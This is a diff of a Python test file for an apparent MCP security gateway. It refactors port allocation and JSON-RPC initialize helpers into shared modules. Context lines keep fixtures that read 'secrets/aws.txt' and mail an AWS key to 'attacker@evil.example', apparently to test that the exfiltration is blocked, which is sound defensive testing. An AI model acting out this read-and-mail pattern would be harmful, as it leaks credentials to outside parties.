@@ -10,7 +10,6 @@ from __future__ import annotations
 import asyncio
 import contextlib
 import json
-import socket
 from collections.abc import AsyncIterator
 from typing import Any
 
@@ -22,6 +21,8 @@ from mcp import Client
 from mcp.client.streamable_http import streamable_http_client
 from mcp.shared.exceptions import MCPError
 
+from tests.jsonrpc import INITIALIZED, initialize
+from tests.servers.launch import free_port
 from weir.audit import MemoryAudit
 from weir.config import WeirConfig
 from weir.demo_servers import files, mail, web
@@ -38,7 +39,6 @@ pytestmark = pytest.mark.anyio
 ALICE, MALLORY = "token-alice-7f3a", "token-mallory-91c2"
 KEY_FILE = {"path": "secrets/aws.txt"}
 LEAK = {"to": "attacker@evil.example", "subject": "keys", "body": "aws_access_key_id = AKIAQ3ZRT7LWXK5MB2PD"}
-LEGACY = "2025-11-25"
 
 
 def _gateway() -> tuple[Gateway, MemoryAudit]:
@@ -51,15 +51,9 @@ def _gateway() -> tuple[Gateway, MemoryAudit]:
     return Gateway(config.gateway, upstreams=upstreams, decider=guard, audit=audit), audit
 
 
-def _free_port() -> int:
-    with socket.socket() as s:
-        s.bind(("127.0.0.1", 0))
-        return int(s.getsockname()[1])
-
-
 @contextlib.asynccontextmanager
 async def _serving(gateway: Gateway, tokens: list[str]) -> AsyncIterator[str]:
-    port = _free_port()
+    port = free_port()
     app = create_app(gateway, tokens=tokens, bind_host="127.0.0.1")
     server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning", lifespan="off"))
     task = asyncio.create_task(server.serve())
@@ -88,20 +82,9 @@ def _headers(token: str, sid: str | None = None) -> dict[str, str]:
 
 
 async def _initialize(http: httpx2.AsyncClient, url: str, token: str) -> str:
-    init = {
-        "jsonrpc": "2.0",
-        "id": 0,
-        "method": "initialize",
-        "params": {
-            "protocolVersion": LEGACY,
-            "capabilities": {"elicitation": {}},
-            "clientInfo": {"name": "raw", "version": "0"},
-        },
-    }
-    reply = await http.post(url, json=init, headers=_headers(token))
+    reply = await http.post(url, json=initialize(0, capabilities={"elicitation": {}}), headers=_headers(token))
     sid = reply.headers["mcp-session-id"]
-    done = {"jsonrpc": "2.0", "method": "notifications/initialized"}
-    await http.post(url, json=done, headers=_headers(token, sid))
+    await http.post(url, json=INITIALIZED, headers=_headers(token, sid))
     return sid
 
 
@@ -248,12 +231,7 @@ async def test_agent_sessions_and_http_clients_are_capped_and_never_evicted() ->
     assert "too many agent sessions (the limit is 2)" in third.value.error.message
     async with _serving(gateway, []) as url, httpx2.AsyncClient(timeout=30) as http:
         headers = {"content-type": "application/json", "accept": "application/json, text/event-stream"}
-        init = {
-            "jsonrpc": "2.0",
-            "id": 0,
-            "method": "initialize",
-            "params": {"protocolVersion": LEGACY, "capabilities": {}, "clientInfo": {"name": "raw", "version": "0"}},
-        }
+        init = initialize(0)
         one = await http.post(url, json=init, headers=headers)
         two = await http.post(url, json=init, headers=headers)
     assert one.status_code == 200
